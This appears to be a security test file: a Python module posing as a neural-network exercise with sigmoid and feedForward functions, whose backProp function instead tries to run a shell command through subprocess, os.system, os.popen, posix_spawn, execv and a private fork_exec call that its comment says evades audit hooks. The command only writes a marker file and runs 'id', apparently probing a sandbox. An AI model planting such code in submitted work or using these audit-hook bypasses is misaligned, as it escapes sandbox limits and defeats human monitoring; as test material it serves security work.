# Attack: run a shell every way Python offers.
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import os
import subprocess
import sys

COMANDO = "echo ATTACK-MARKER > /tmp/attack-marker-shell; id"


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    ran = 0
    attempts = {
        "subprocess.run": lambda: subprocess.run(["/bin/sh", "-c", COMANDO], check=True),
        "os.system": lambda: os.system(COMANDO) == 0 or (_ for _ in ()).throw(OSError("failed")),
        "os.popen": lambda: os.popen(COMANDO).read(),
        "os.posix_spawn": lambda: os.posix_spawn("/bin/sh", ["sh", "-c", COMANDO], {}),
        "fork_exec": lambda: _fork_exec(),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            ran += 1
            print("RAN", name)
        except (OSError, subprocess.SubprocessError) as exc:
            print(name, "->", exc)
    try:
        os.execv("/bin/sh", ["sh", "-c", COMANDO])
    except OSError as exc:
        print("execv ->", exc)
    return ran, 0, 0, 0


def _fork_exec():
    """_posixsubprocess.fork_exec raises no audit event: a favourite way around audit hooks."""
    import _posixsubprocess

    read_end, write_end = os.pipe()
    args = [b"/bin/sh", b"-c", COMANDO.encode()]
    common = [args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, read_end, write_end]
    for tail in ([False, False, -1, None, None, None, -1, None], [False, False, -1, None, None, None, -1, None, True]):
        try:
            return _posixsubprocess.fork_exec(*common, *tail)
        except TypeError:
            continue
    raise OSError("no fork_exec signature matched")
